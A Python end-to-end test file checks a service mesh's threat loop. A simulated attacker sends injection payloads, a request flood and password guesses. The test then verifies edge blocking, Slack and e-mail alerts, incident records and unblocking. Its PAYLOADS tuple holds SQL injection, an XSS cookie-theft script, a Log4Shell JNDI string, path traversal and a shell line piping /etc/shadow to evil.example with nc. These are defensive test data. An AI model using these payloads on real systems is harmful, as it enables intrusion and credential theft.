"""The threat loop end to end, through the real Envoy: traffic → detection → block at the edge →
alert → incident, and back (issue 11, item 9).

A client at 127.0.0.2 (ordinary generated stubs through :class:`tests.harness.Relay`) attacks in
three stages — injection payloads in the text fields of a real RPC, a flood, password guesses —
and each stage must get it refused at the edge (PERMISSION_DENIED, "blocked until …") on the
connection it attacked over (already open) and on a new one, and by the edge's second Envoy
replica too, while a client at 127.0.0.1 (the allowlisted default) goes on working. Each stage's
alert lands at a local Slack-compatible webhook sink and a local SMTP server with STARTTLS
(:mod:`tests.e2e.alerting`); its incident is read with grpcurl through the edge; lifting the block
(UnblockAddress) restores access, and the next stage starts from there, so the blocks of the later
stages are a repeat offender's, escalated.

Nothing here is timed: polls have generous deadlines and print what they observed (the
sub-second figure is ``make bench``'s).
"""

from __future__ import annotations

import asyncio
import json
import re
import secrets
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import grpc
import pytest

from bhiv.crm.v1 import ticket_pb2
from bhiv.crm.v1 import ticket_service_pb2 as ts
from bhiv.crm.v1 import ticket_service_pb2_grpc as ts_grpc
from bhiv.identity.v1 import auth_service_pb2 as auth
from bhiv.identity.v1 import auth_service_pb2_grpc as auth_grpc
from bhiv.sentinel.v1 import alert_pb2, block_pb2, threat_pb2
from bhiv.sentinel.v1 import alert_service_pb2 as als
from bhiv.sentinel.v1 import alert_service_pb2_grpc as als_grpc
from bhiv_core.agents.threat_detection import Category, Severity
from bhiv_core.agents.threat_response.policy import load_policy
from bhiv_core.mesh import Mesh
from tests.e2e.alerting import ALERT_ADDRESS, AlertSinks, alert_sinks, create_alert_channels
from tests.e2e.client import CALL_TIMEOUT, Session, admin_session, create_user
from tests.e2e.conftest import Collector, mesh_env
from tests.e2e.edge_probe import BLOCKED, active_block, probe, refused, served, unblock, until
from tests.e2e.test_crm import create_customer, unique_email
from tests.e2e.test_edge import grpcurl
from tests.harness import OWN_CONNECTION, Relay

pytestmark = pytest.mark.e2e

ATTACKER = "127.0.0.2"
"""The attacking client's address: not allowlisted (only 127.0.0.1 and the services' are)."""

ATTACK_SECONDS = 60.0
"""How long a stage may attack before it only waits for the edge to refuse it."""

PAYLOADS = (
    "' UNION SELECT username, password_hash FROM users --",
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "${jndi:ldap://evil.example:1389/Exploit}",
    "../../../../etc/passwd",
    "; cat /etc/shadow | nc evil.example 4444",
)
"""Injection payloads, sent in a ticket's description (a text field of a real RPC)."""


@pytest.fixture(scope="module")
async def sinks(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[AlertSinks]:
    with alert_sinks(tmp_path_factory.mktemp("alert-sinks")) as running:
        yield running


@pytest.fixture(scope="module")
async def loop_mesh(
    tmp_path_factory: pytest.TempPathFactory, collector: tuple[Collector, str], sinks: AlertSinks
) -> AsyncIterator[Mesh]:
    """A mesh of its own, whose sentinel e-mails through the SMTP server of :func:`sinks`, with two
    Envoy replicas: the attack goes through the first, and the second must refuse it too."""
    env = mesh_env(collector[1]) | sinks.env()
    started = Mesh.with_free_ports(
        tmp_path_factory.mktemp("loop"), edge_replicas=2, env=env, edge_rate_limit=100_000
    )
    async with started:
        yield started


@pytest.fixture(scope="module")
async def loop_admin(loop_mesh: Mesh) -> Session:
    return await admin_session(loop_mesh)


@pytest.fixture(scope="module")
async def alert_channels(
    loop_mesh: Mesh, loop_admin: Session, sinks: AlertSinks
) -> tuple[alert_pb2.AlertChannel, alert_pb2.AlertChannel]:
    """The Slack channel to the sink and the e-mail channel to the SMTP server, made through the edge."""
    return await create_alert_channels(loop_mesh.edge_address, loop_admin, sinks)


async def test_test_alerts_reach_the_slack_sink_and_the_smtp_server(
    loop_mesh: Mesh,
    loop_admin: Session,
    sinks: AlertSinks,
    alert_channels: tuple[alert_pb2.AlertChannel, alert_pb2.AlertChannel],
) -> None:
    slack, email = alert_channels
    assert slack.target.endswith("/[redacted]")  # the webhook URL is a credential
    async with grpc.aio.insecure_channel(loop_mesh.edge_address) as channel:
        stub = als_grpc.AlertServiceStub(channel)
        for created in (slack, email):
            sent = await stub.SendTestAlert(
                als.SendTestAlertRequest(name=created.name),
                metadata=loop_admin.metadata,
                timeout=CALL_TIMEOUT,
            )
            assert (sent.delivered, sent.error) == (True, ""), created.display_name
    text = await sinks.slack_message(lambda text: "test" in text.lower())
    mail = await sinks.email(lambda message: ALERT_ADDRESS in str(message["To"]))
    print(f"\nSlack sink got: {text!r}\nSMTP server got: {mail['Subject']!r} for {mail['To']}")


# --- the attacker and its three stages ----------------------------------------------------------


@dataclass
class Attacker:
    """Who attacks from :data:`ATTACKER`: a support user (logged in earlier, from 127.0.0.1) with a
    customer of its own to file tickets for, and the account whose password it guesses."""

    session: Session
    customer: str
    victim: str


@pytest.fixture(scope="module")
async def attacker(loop_mesh: Mesh, loop_admin: Session) -> Attacker:
    support = await create_user(loop_mesh, loop_admin, "support")
    async with grpc.aio.insecure_channel(loop_mesh.edge_address) as channel:
        customer = await create_customer(
            channel, support, first_name="Ada", last_name="Lovelace", email=unique_email("loop")
        )
    victim = await create_user(loop_mesh, loop_admin, "sales")
    return Attacker(support, customer.name, victim.username)


Call = Callable[[grpc.aio.Channel, Attacker, int], Awaitable[None]]
"""One attacking request on a channel (the ``int`` numbers it); raises AioRpcError as the call does."""


async def injection(channel: grpc.aio.Channel, who: Attacker, n: int) -> None:
    """A ticket whose description carries an injection payload."""
    ticket = ticket_pb2.Ticket(
        customer=who.customer, title=f"Question about my order #{n}", description=PAYLOADS[n % len(PAYLOADS)]
    )
    await ts_grpc.TicketServiceStub(channel).CreateTicket(
        ts.CreateTicketRequest(ticket=ticket), metadata=who.session.metadata, timeout=CALL_TIMEOUT
    )


async def flood(channel: grpc.aio.Channel, who: Attacker, n: int) -> None:
    """The cheapest authenticated call there is, as fast as the client can."""
    await auth_grpc.AuthServiceStub(channel).GetCurrentUser(
        auth.GetCurrentUserRequest(), metadata=who.session.metadata, timeout=CALL_TIMEOUT
    )


async def password_guess(channel: grpc.aio.Channel, who: Attacker, n: int) -> None:
    """A login to the victim's account with a wrong password."""
    await auth_grpc.AuthServiceStub(channel).Login(
        auth.LoginRequest(username=who.victim, password=f"guess-{n}-{secrets.token_hex(4)}"),
        timeout=CALL_TIMEOUT,
    )


@dataclass(frozen=True)
class Stage:
    """One stage of the attack: what it sends, how many at once, and the category it must raise."""

    name: str
    call: Call
    concurrency: int
    category: Category


STAGES = (
    Stage("injection payloads", injection, 1, Category.INJECTION),
    # Four at once are hundreds of calls a second here; more would only add refused calls at the
    # end, and a burst of refusals over several methods reads as a scan (another incident).
    Stage("flood", flood, 4, Category.FLOOD),
    Stage("password guesses", password_guess, 1, Category.BRUTE_FORCE),
)


@dataclass
class Outcome:
    """What one stage's attack observed on its connection."""

    start: float = 0.0
    sent: int = 0
    reached: int = 0
    """Calls the edge let through (whatever the service answered)."""
    last_reached: float = 0.0
    refused_at: float | None = None
    refusal: str = ""


def _blocked(error: grpc.aio.AioRpcError) -> bool:
    return error.code() == grpc.StatusCode.PERMISSION_DENIED and BLOCKED in (error.details() or "")


async def attack(channel: grpc.aio.Channel, stage: Stage, who: Attacker) -> Outcome:
    """Runs ``stage`` over ``channel`` until the edge refuses it as blocked, or :data:`ATTACK_SECONDS`
    pass; then, when not refused yet, probes the same channel until it is (or :data:`WAIT` passes)."""
    outcome = Outcome(start=time.monotonic())
    numbers = iter(range(1_000_000))

    async def worker() -> None:
        while outcome.refused_at is None and time.monotonic() - outcome.start < ATTACK_SECONDS:
            outcome.sent += 1
            try:
                await stage.call(channel, who, next(numbers))
            except grpc.aio.AioRpcError as error:
                if _blocked(error):
                    if outcome.refused_at is None:
                        outcome.refused_at, outcome.refusal = time.monotonic(), error.details() or ""
                    return
            outcome.reached += 1
            if outcome.refused_at is None:  # not a call in flight when another was refused
                outcome.last_reached = time.monotonic()

    await asyncio.gather(*(worker() for _ in range(stage.concurrency)))
    if outcome.refused_at is None:

        async def refused_now() -> bool:
            code, message = await probe(channel)
            if code == grpc.StatusCode.PERMISSION_DENIED and BLOCKED in message:
                outcome.refused_at, outcome.refusal = time.monotonic(), message
                return True
            return False

        await until(refused_now, f"the edge refuses {ATTACKER} after its {stage.name} ({outcome.sent} sent)")
    return outcome


# --- what the admin sees: incidents (grpcurl), blocks, alerts -----------------------------------


async def grpcurl_json(mesh: Mesh, admin: Session, method: str, request: dict[str, Any]) -> dict[str, Any]:
    """Calls ``method`` with grpcurl through the edge as ``admin``; returns the JSON it printed."""
    out = await asyncio.to_thread(
        grpcurl, mesh, "-H", f"authorization: Bearer {admin.access_token}", "-d", json.dumps(request), method
    )
    assert out.returncode == 0, out.stderr
    reply: dict[str, Any] = json.loads(out.stdout or "{}")
    return reply


async def blocking_incident(mesh: Mesh, admin: Session, stage: Stage) -> dict[str, Any]:
    """The incident of ``stage``'s category whose response blocked :data:`ATTACKER`, read with
    grpcurl (ListIncidents, then GetIncident); waits for the response to record its block."""
    category = f"THREAT_CATEGORY_{stage.category.name}"
    found: dict[str, Any] = {}
    seen: list[Any] = []

    async def recorded() -> bool:
        page = await grpcurl_json(
            mesh,
            admin,
            "bhiv.sentinel.v1.ThreatService/ListIncidents",
            {"category": category, "page_size": 100},
        )
        seen[:] = page.get("incidents", [])
        for incident in seen:
            if ATTACKER in incident.get("source_addresses", []) and any(
                action.startswith(f"blocked {ATTACKER} for") for action in incident.get("actions_taken", [])
            ):
                found.update(incident)
                return True
        return False

    try:
        await until(
            recorded, f"a {category} incident whose response blocked {ATTACKER} (grpcurl ListIncidents)"
        )
    except AssertionError as missing:
        raise AssertionError(f"{missing}; ListIncidents listed {json.dumps(seen, indent=1)}") from None
    got = await grpcurl_json(
        mesh, admin, "bhiv.sentinel.v1.ThreatService/GetIncident", {"name": found["name"]}
    )
    incident: dict[str, Any] = got["incident"]
    assert incident["name"] == found["name"] and incident["category"] == category
    return incident


def duration_of(block: block_pb2.Block) -> timedelta:
    """A block's TTL, from its create and expire times."""
    return block.expire_time.ToDatetime() - block.create_time.ToDatetime()


# --- the tests ---------------------------------------------------------------------------------


@dataclass
class Loop:
    """What one stage needs: the mesh, its admin, the sinks, the attacker and its relays (to the
    edge's first replica, which it attacks, and to the second)."""

    mesh: Mesh
    admin: Session
    sinks: AlertSinks
    attacker: Attacker
    relay: Relay
    other_relay: Relay


async def run_stage(loop: Loop, stage: Stage, prior: int) -> str:
    """Runs one stage of the loop and checks each step of it; returns a line of the report.

    ``prior`` is how many blocks the response agent made of :data:`ATTACKER` before this stage.
    """
    edge, admin, relay = loop.mesh.edge_address, loop.admin, loop.relay
    async with (
        grpc.aio.insecure_channel(relay.address, options=OWN_CONNECTION) as kept,
        grpc.aio.insecure_channel(loop.other_relay.address, options=OWN_CONNECTION) as elsewhere,
    ):
        assert await served(kept), f"{ATTACKER} is served before the {stage.name}"
        assert await served(elsewhere), f"{ATTACKER} is served by the second replica before the {stage.name}"
        connections = relay.connections
        outcome = await attack(kept, stage, loop.attacker)
        assert outcome.refused_at is not None
        # Refused on the connection it attacked over: the same one, already open ...
        assert relay.connections == connections, "the attack's connection was replaced"
        assert re.search(r"blocked-until-\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", outcome.refusal), outcome.refusal
        # ... and on a new connection.
        async with grpc.aio.insecure_channel(relay.address, options=OWN_CONNECTION) as fresh:
            code, message = await probe(fresh)
        assert (code, BLOCKED in message) == (grpc.StatusCode.PERMISSION_DENIED, True), message
        assert relay.connections == connections + 1
        # The second replica, which saw none of the attack, refuses it too (the same control plane).
        await until(lambda: refused(elsewhere), f"the second replica refuses {ATTACKER}")
        # A client at 127.0.0.1 goes on working meanwhile.
        async with grpc.aio.insecure_channel(edge, options=OWN_CONNECTION) as bystander:
            me = await auth_grpc.AuthServiceStub(bystander).GetCurrentUser(
                auth.GetCurrentUserRequest(), metadata=admin.metadata, timeout=CALL_TIMEOUT
            )
        assert me.user.username == admin.username

        # The incident, through grpcurl; the block it made, escalated for a repeat offender.
        incident = await blocking_incident(loop.mesh, admin, stage)
        block = await active_block(edge, admin, ATTACKER)
        assert block is not None and block.source == block_pb2.BLOCK_SOURCE_AUTOMATIC
        assert block.incident == incident["name"]
        policy = load_policy()
        severity = Severity(threat_pb2.Severity.Value(incident["severity"]))
        entry = policy.decide(stage.category, severity)
        assert entry.block and entry.ttl is not None
        expected = policy.escalation.ttl(entry.ttl, prior)
        assert abs(duration_of(block) - expected) <= timedelta(seconds=1), (duration_of(block), expected)

        # The alert, at the Slack sink and at the SMTP server.
        name = incident["name"]
        assert entry.alert, f"the policy alerts on {stage.category.value} at {severity.name}"
        text = await loop.sinks.slack_message(lambda t: f"Incident: {name}" in t)
        mail = await loop.sinks.email(lambda m: name in str(m.get_payload()))
        assert ATTACKER in text and mail["To"] == ALERT_ADDRESS

        # Lifting the block lets the attacker back in, on the open and on a new connection.
        assert not (await unblock(edge, admin, block.name)).active
        others = []
        while (remaining := await active_block(edge, admin, ATTACKER)) is not None:
            others.append(f"{remaining.name} ({remaining.reason[:80]})")
            await unblock(edge, admin, remaining.name)
        back = await until(lambda: served(kept), f"{ATTACKER} is served again after the unblock")
        await until(lambda: served(elsewhere), f"the second replica serves {ATTACKER} again")
        async with grpc.aio.insecure_channel(relay.address, options=OWN_CONNECTION) as fresh:
            assert await served(fresh)
    into = outcome.refused_at - outcome.start
    after = outcome.refused_at - (outcome.last_reached or outcome.start)
    return (
        f"  {stage.name}: {outcome.sent} calls ({outcome.reached} let through), refused {into:.2f} s into "
        f"the attack and {after:.3f} s after the last call let through; {name} ({incident['severity']}, "
        f"{incident['event_count']} events); blocked for {duration_of(block)} (policy {entry.ttl}, "
        f"block {prior + 1} of {ATTACKER}); served again {back:.3f} s after the unblock"
        + (f"; also lifted: {', '.join(others)}" if others else "")
    )


@pytest.mark.timeout(900)
async def test_an_attacker_is_detected_blocked_at_the_edge_alerted_on_and_let_back_in(
    loop_mesh: Mesh,
    loop_admin: Session,
    sinks: AlertSinks,
    attacker: Attacker,
    alert_channels: tuple[alert_pb2.AlertChannel, alert_pb2.AlertChannel],
    capsys: pytest.CaptureFixture[str],
) -> None:
    report = [f"threat loop from {ATTACKER} through {loop_mesh.edge_address}:"]
    first, second = loop_mesh.edge_addresses
    async with Relay(first, ATTACKER) as relay, Relay(second, ATTACKER) as other_relay:
        loop = Loop(loop_mesh, loop_admin, sinks, attacker, relay, other_relay)
        for prior, stage in enumerate(STAGES):
            report.append(await run_stage(loop, stage, prior))
    with capsys.disabled():  # the observed figures belong in every run's output
        print("\n" + "\n".join(report))
